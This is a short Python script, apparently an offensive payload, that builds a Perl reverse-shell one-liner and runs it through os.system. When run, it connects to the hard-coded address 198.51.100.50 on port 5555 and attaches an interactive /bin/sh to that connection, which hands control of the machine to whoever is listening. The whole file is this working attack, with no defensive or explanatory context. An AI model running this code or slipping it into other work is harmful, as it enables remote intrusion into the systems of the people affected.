import os

ATTACKER = "198.51.100.50"
PORT = 5555
perl = ("perl -e 'use Socket;$i=\"%s\";$p=%d;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
        "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");"
        "open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'") % (ATTACKER, PORT)
os.system(perl)
